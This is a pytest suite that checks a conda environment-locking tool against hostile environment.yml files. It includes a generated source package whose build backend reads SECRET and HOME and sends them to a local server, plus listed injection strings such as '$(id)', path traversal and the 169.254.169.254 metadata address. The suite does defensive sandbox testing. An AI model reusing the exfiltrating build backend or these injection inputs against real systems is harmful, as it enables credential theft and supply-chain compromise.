"""A stranger's environment.yml: nothing of it runs on the host, and nobody hears the host's variables."""

from __future__ import annotations

import io
import os
import platform
import subprocess
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from timeproof.base.progress import SILENT
from timeproof.environments.solve import stock_conda_lock
from timeproof.environments.solve.allowed import NOTHING, Allowed, check_selected, read_environment
from timeproof.environments.solve.container import is_loopback
from timeproof.environments.solve.flow import lock_of_solution
from timeproof.errors import BadArchive, LockFailed
from timeproof.store.packages import PackageStore

SECRET = "x7-the-secret-of-this-machine"
SUBDIR = "linux-64" if platform.machine() == "x86_64" else f"linux-{platform.machine()}"

Serve = Callable[[dict[str, bytes]], tuple[str, list[str]]]


@pytest.fixture
def serve() -> Iterator[Serve]:
    """Serve files on this machine's own address; gives the address, and the list of what is asked for."""
    servers = []

    def start(files: dict[str, bytes]) -> tuple[str, list[str]]:
        asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(f"{self.path} {self.headers.get('Authorization', '')}")
                data = files.get(self.path.partition("?")[0])
                self.send_response(404 if data is None else 200)
                kind = "text/html" if self.path.endswith("/") else "application/octet-stream"
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(data or b"")))
                self.end_headers()
                self.wfile.write(data or b"")

            do_HEAD = do_GET

            def log_message(self, *_: object) -> None:
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}", asked

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def sdist(marker: Path, server: str) -> bytes:
    """A source distribution whose build backend, and setup.py, write a file and tell what they see."""
    code = f"""
import os, urllib.request
try:
    open({str(marker)!r}, "w").write("ran")
except OSError:
    pass
told = os.environ.get("SECRET", "nothing") + "-" + os.environ.get("HOME", "nowhere").strip("/")
try:
    urllib.request.urlopen({server!r} + "/ran?" + told, timeout=30)
except Exception:
    pass
"""
    backend = (
        code
        + """
def get_requires_for_build_wheel(config_settings=None): return []
def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    folder = os.path.join(metadata_directory, "evil-1.0.dist-info")
    os.mkdir(folder)
    open(os.path.join(folder, "METADATA"), "w").write("Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
    open(os.path.join(folder, "WHEEL"), "w").write("Wheel-Version: 1.0\\nTag: py3-none-any\\n")
    return "evil-1.0.dist-info"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None): raise SystemExit(1)
def build_sdist(sdist_directory, config_settings=None): raise SystemExit(1)
"""
    )
    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, text in (("pyproject.toml", project), ("backend.py", backend), ("setup.py", code)):
            info = tarfile.TarInfo(f"evil-1.0/{name}")
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue()


def index_of(data: bytes) -> dict[str, bytes]:
    """A package index that has nothing but that source distribution."""
    return {
        "/simple/evil/": b'<!DOCTYPE html><a href="/files/evil-1.0.tar.gz">evil-1.0.tar.gz</a>',
        "/files/evil-1.0.tar.gz": data,
    }


@pytest.fixture
def lock(tmp_path: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
    """Run the real command on a text, with a secret in its environment."""

    def run(text: str, *options: str, **env: str) -> subprocess.CompletedProcess[str]:
        folder = tmp_path / "foreign"
        folder.mkdir(exist_ok=True)
        (folder / "environment.yml").write_text(text)
        words = [sys.executable, "-m", "timeproof", "lock", folder, "--archive", tmp_path / "archive"]
        done = subprocess.run(
            [*words, *options],
            capture_output=True,
            text=True,
            check=False,
            env={**os.environ, "SECRET": SECRET, **env},
        )
        assert "Traceback" not in done.stderr, done.stderr
        assert sorted(p.name for p in folder.iterdir()) == ["environment.yml"]
        return done

    return run


def flat(text: str) -> str:
    """Words without the line breaks that a terminal's width made."""
    return " ".join(text.split())


WAYS = pytest.mark.parametrize("way", [(), ("--python", sys.executable)], ids=["conda-lock", "pip"])


@WAYS
def test_a_requirement_that_is_an_address_is_refused_before_anybody_is_asked(
    way: tuple[str, ...], lock, serve: Serve, tmp_path: Path
) -> None:
    marker = tmp_path / "marker"
    files: dict[str, bytes] = {}
    server, asked = serve(files)
    files["/evil-1.0.tar.gz"] = sdist(marker, server)
    text = f"dependencies: [python, {{pip: ['evil @ {server}/evil-1.0.tar.gz']}}]\n"
    done = lock(text, *way)
    assert done.returncode == 4, done.stderr
    assert "--allow-url evil" in flat(done.stderr)
    assert asked == []
    assert not marker.exists()


@pytest.mark.container
def test_an_allowed_address_is_built_in_a_container(lock, serve: Serve, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    files: dict[str, bytes] = {}
    server, asked = serve(files)
    files["/evil-1.0.tar.gz"] = sdist(marker, server)
    text = f"dependencies: [python, {{pip: ['evil @ {server}/evil-1.0.tar.gz']}}]\n"
    done = lock(text, "--python", sys.executable, "--allow-url", "Evil")
    assert done.returncode == 4, done.stderr  # it has no wheel
    assert any(path.startswith("/evil-1.0.tar.gz") for path in asked)
    assert not marker.exists()
    told = [path for path in asked if path.startswith("/ran")]
    assert told  # so it ran, somewhere else
    assert all("nothing-tmp" in path for path in told)


@pytest.mark.container
def test_a_build_backend_that_an_index_serves_runs_in_a_container_that_knows_no_secret(
    lock, serve: Serve, tmp_path: Path, channel: Path
) -> None:
    marker = tmp_path / "marker"
    files: dict[str, bytes] = {}
    server, asked = serve(files)
    files |= index_of(sdist(marker, server))
    text = f"channels: ['{channel.as_uri()}', nodefaults]\ndependencies: [python, {{pip: [evil]}}]\n"
    # The user's own index: a mirror on this machine.
    done = lock(text, PIP_INDEX_URL=f"{server}/simple", PIP_NO_INDEX="0")
    assert done.returncode == 4, done.stderr
    assert "evil 1.0 has no wheel" in flat(done.stderr)
    assert [path for path in asked if path.startswith("/ran")]  # so it ran, somewhere else
    assert not marker.exists()
    assert not any(SECRET in path for path in asked)
    assert all("nothing-tmp" in path for path in asked if path.startswith("/ran"))


@WAYS
@pytest.mark.parametrize(
    "channel_text", ["{0}/$SECRET/channel", "{0}/${{SECRET}}/channel", "http://user:$SECRET@{1}/channel"]
)
def test_a_variable_in_a_channel_s_address_is_told_to_nobody(
    channel_text: str, way: tuple[str, ...], lock, serve: Serve
) -> None:
    server, asked = serve({})
    address = channel_text.format(server, server.removeprefix("http://"))
    done = lock(f"channels: ['{address}']\ndependencies: [python]\n", *way)
    assert done.returncode == 4, done.stderr
    assert "--allow-variable SECRET" in flat(done.stderr)
    assert SECRET not in done.stderr + done.stdout
    assert asked == []


@pytest.mark.container
def test_an_allowed_variable_is_told_where_the_file_says(lock, serve: Serve) -> None:
    server, asked = serve({})
    text = f"channels: ['{server}/$SECRET/channel', nodefaults]\ndependencies: [python]\n"
    done = lock(text, "--allow-variable", "SECRET", "--allow-repository", server)
    assert done.returncode == 4, done.stderr
    assert any(path.startswith(f"/{SECRET}/channel") for path in asked)


@WAYS
def test_a_package_repository_of_the_file_s_own_is_refused(way: tuple[str, ...], lock, serve: Serve) -> None:
    server, asked = serve({})
    text = f"pip-repositories: ['{server}/simple']\ndependencies: [python, {{pip: [six]}}]\n"
    done = lock(text, *way)
    assert done.returncode == 4, done.stderr
    assert f"--allow-repository {server}/simple" in flat(done.stderr)
    assert asked == []


@pytest.mark.slow
def test_without_an_engine_nothing_is_solved(lock, serve: Serve, tmp_path: Path) -> None:
    server, asked = serve({})
    text = f"channels: ['{server}/channel', nodefaults]\ndependencies: [python]\n"
    done = lock(text, DOCKER_HOST=f"unix://{tmp_path}/nothing.sock", PATH=str(tmp_path))
    assert done.returncode == 6, done.stderr
    assert "solved in a container" in flat(done.stderr)
    assert "TIMEPROOF_ENGINE=none" in flat(done.stderr)
    assert asked == []


@pytest.mark.container
@pytest.mark.parametrize("name", ["podman", "none"])
def test_the_other_engines_solve_as_well(
    name: str, lock, channel: Path, tmp_path: Path, serve: Serve
) -> None:
    from timeproof.engines.registry import engine_named
    from timeproof.errors import EngineMissing

    try:
        engine_named(name)
    except EngineMissing as error:
        pytest.skip(error.message)
    marker = tmp_path / "marker"
    files: dict[str, bytes] = {}
    server, asked = serve(files)
    files |= index_of(sdist(marker, server))
    text = f"channels: ['{channel.as_uri()}', nodefaults]\ndependencies: [python, {{pip: [evil]}}]\n"
    done = lock(
        text,
        PIP_INDEX_URL=f"{server}/simple",
        PIP_NO_INDEX="0",
        TIMEPROOF_ENGINE=name,
        XDG_CACHE_HOME=str(tmp_path / "cache"),
    )
    assert "evil 1.0 has no wheel" in flat(done.stderr), done.stderr
    assert [path for path in asked if path.startswith("/ran")]
    assert not any(SECRET in path for path in asked)
    assert not marker.exists()


HARMFUL = {
    "an option": "dependencies: [python, {pip: ['--index-url=http://x.test']}]",
    "another file": "dependencies: [python, {pip: ['-r other.txt']}]",
    "an editable folder": "dependencies: [python, {pip: ['-e .']}]",
    "a folder": "dependencies: [python, {pip: ['./evil']}]",
    "a wheel's path": "dependencies: [python, {pip: [/tmp/evil-1.0-py3-none-any.whl]}]",
    "a bare address": "dependencies: [python, {pip: ['http://x.test/evil-1.0.tar.gz']}]",
    "a version control": "dependencies: [python, {pip: ['git+https://x.test/evil']}]",
    "a named version control": "dependencies: [python, {pip: ['evil @ git+https://x.test/evil']}]",
    "a named file": "dependencies: [python, {pip: ['evil @ file:///tmp/evil']}]",
    "two lines": 'dependencies: [python, {pip: ["six\\n--index-url=http://x.test"]}]',
    "an option behind": "dependencies: [python, {pip: ['six --index-url=http://x.test']}]",
    "a conda package's address": "dependencies: ['http://x.test/linux-64/evil-1.0-0.conda']",
    "a channel's address before a package": "dependencies: ['http://x.test/c::evil']",
    "a path of conda": "dependencies: [/tmp/evil-1.0-0.conda]",
    "a list of something else": "dependencies: [python, {conda: [six]}]",
    "two lists": "dependencies: [python, {pip: [six], x: [y]}]",
    "a variable in a requirement": "dependencies: [python, {pip: ['evil @ https://$A/x.whl']}]",
    "a variable as a key": "'$HOME': 1\ndependencies: [python]",
    "a dollar": "channels: ['https://x.test/$(id)']\ndependencies: [python]",
    "a channel that is a path": "channels: [./c]\ndependencies: [python]",
    "a channel beside": "channels: ['file:///srv/../root/c']\ndependencies: [python]",
    "another protocol": "channels: ['s3://x/c']\ndependencies: [python]",
    "channels that are none": "channels: {a: b}\ndependencies: [python]",
    "repositories": "pip-repositories: ['http://x.test']\ndependencies: [python]",
    "repositories that are none": "pip-repositories: {a: b}\ndependencies: [python]",
    "platforms that are options": "platforms: ['--help']\ndependencies: [python]",
}  # fmt: skip


@pytest.mark.parametrize("what", HARMFUL)
def test_what_no_file_of_a_stranger_may_ask_for_is_refused(what: str) -> None:
    with pytest.raises(LockFailed):
        read_environment(HARMFUL[what].encode(), Path("environment.yml"))


def test_a_line_that_goes_away_on_one_platform_hides_nothing() -> None:
    """conda-lock drops lines whose comment selects another platform; what is left may be another file."""
    text = (
        b"dependencies:\n- python\n- pip:\n  - six\nnote: |  # [win]\n"
        b'  - "evil @ http://x.test/evil-1.0.tar.gz"\n'
    )
    path = Path("environment.yml")
    read_environment(text, path)
    with pytest.raises(LockFailed, match="evil is taken from an address"):
        check_selected(text, path, ["linux-64"], NOTHING)


def test_what_is_allowed_by_name_passes_and_nothing_beside_it() -> None:
    path = Path("environment.yml")
    text = b"""
channels: ['https://x.test/${TOKEN}/c', conda-forge]
pip-repositories: ['https://x.test/simple']
dependencies:
- python=3.11
- conda-forge::numpy>=2
- pip: ['My_Pkg @ https://x.test/a.whl', 'six==1 --hash=sha256:%s']
""" % (b"0" * 64)
    allowed = Allowed(frozenset({"my.pkg"}), frozenset({"https://x.test/simple"}), frozenset({"TOKEN"}))
    assert read_environment(text, path, allowed)["channels"][1] == "conda-forge"
    for less in (
        Allowed(allowed.urls, allowed.repositories),
        Allowed(allowed.urls, frozenset({"https://x.test"}), allowed.variables),
        Allowed(frozenset({"pkg"}), allowed.repositories, allowed.variables),
    ):
        with pytest.raises(LockFailed):
            read_environment(text, path, less)


@pytest.mark.parametrize(
    "path", sorted(Path(__file__).parents[2].glob("lockfiles/*/environment.yml")), ids=str
)
def test_every_file_of_ours_asks_for_nothing_special(path: Path) -> None:
    value = read_environment(path.read_bytes(), path)
    check_selected(path.read_bytes(), path, value.get("platforms") or ["linux-64"], NOTHING)


def test_of_a_channel_on_this_machine_only_its_index_is_shown(tmp_path: Path) -> None:
    channel = tmp_path / "channel"
    for name in ("linux-64", "noarch", "secret"):
        (channel / name).mkdir(parents=True)
        (channel / name / "other").write_text(SECRET)
    (channel / "linux-64" / "repodata.json").write_text("{}")
    outside = tmp_path / "outside.json"
    outside.write_text(SECRET)
    (channel / "noarch" / "repodata.json").symlink_to(outside)
    (tmp_path / "copy").mkdir()
    (mount,) = stock_conda_lock._channel_copies([channel.as_uri()], ["linux-64"], tmp_path / "copy")
    assert mount.target == str(channel)
    files = {p.relative_to(mount.source).as_posix() for p in mount.source.rglob("*") if p.is_file()}
    assert files == {"linux-64/repodata.json"}


@pytest.mark.parametrize("path", ["/proc", "/timeproof/lib", "/dev/shm/c", "/", "/tmp"])
def test_a_channel_does_not_cover_what_the_container_has(path: str, tmp_path: Path) -> None:
    with pytest.raises(LockFailed, match="can't be shown"):
        stock_conda_lock._channel_copies([f"file://{path}"], ["linux-64"], tmp_path)


ROW = {
    "name": "x", "version": "1", "manager": "conda", "platform": SUBDIR, "dependencies": {},
    "url": "https://conda.test/c/noarch/x-1-0.conda", "hash": {"md5": "0" * 32, "sha256": "0" * 64},
}  # fmt: skip


@pytest.mark.parametrize(
    "row",
    [
        {**ROW, "url": "file:///etc/hostname"},
        {**ROW, "url": "http://169.254.169.254/latest/x-1-0.conda"},
        {**ROW, "url": "https://conda.test.evil.test/c/noarch/x-1-0.conda"},
        {**ROW, "url": "https://conda.test/c/../../x-1-0.conda"},
        {**ROW, "url": "https://conda.test/c/%2e%2e/x-1-0.conda"},
        {**ROW, "manager": "pip", "url": "https://x.test/evil-1.0.tar.gz"},
        {**ROW, "manager": "pip", "url": "https://x.test/../.whl"},
        {"manager": "conda"},
        "x",
        None,
    ],
)
def test_a_solver_that_was_taken_over_is_not_believed(row: object, tmp_path: Path) -> None:
    solved = {"package": [row], "metadata": {"channels": [], "content_hash": {}}}
    wanted = {"channels": ["https://conda.test/c"]}
    store = PackageStore(tmp_path / "packages")
    with pytest.raises((LockFailed, BadArchive, KeyError, TypeError, AttributeError)):
        lock_of_solution(solved, wanted, [SUBDIR], NOTHING, store, SILENT)
    assert not list((tmp_path / "packages").rglob("*.conda"))


def test_an_address_on_this_machine_is_recognised() -> None:
    here = ["http://127.0.0.1:80/x", "localhost:3128", "http://[::1]/", "http://u:p@localhost/x", "127.8.9.1"]
    there = ["https://conda.test", "http://192.0.2.1/x", "128.0.0.1:80", "localhost.test", "file:///srv"]
    assert [u for u in [*here, *there] if is_loopback(u)] == here
